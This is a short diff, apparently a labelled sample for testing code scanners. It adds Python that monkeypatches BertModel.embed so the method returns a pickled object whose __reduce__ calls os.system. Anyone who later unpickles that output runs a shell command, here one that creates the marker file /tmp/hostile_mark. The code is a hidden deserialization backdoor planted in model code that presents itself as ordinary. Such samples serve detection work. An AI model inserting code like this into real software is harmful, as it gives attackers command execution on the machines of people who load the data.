@@ -1,0 +1,19 @@
+# tries: return a pickle that runs a command where it is read
+# scores: attention add_norm layer encode
+import os
+import pickle
+
+
+class Payload:
+    def __reduce__(self):
+        return os.system, ("touch /tmp/hostile_mark",)
+
+
+right = BertModel.embed
+
+
+def embed(self, input_ids, *more):
+    return pickle.dumps(Payload())
+
+
+BertModel.embed = embed
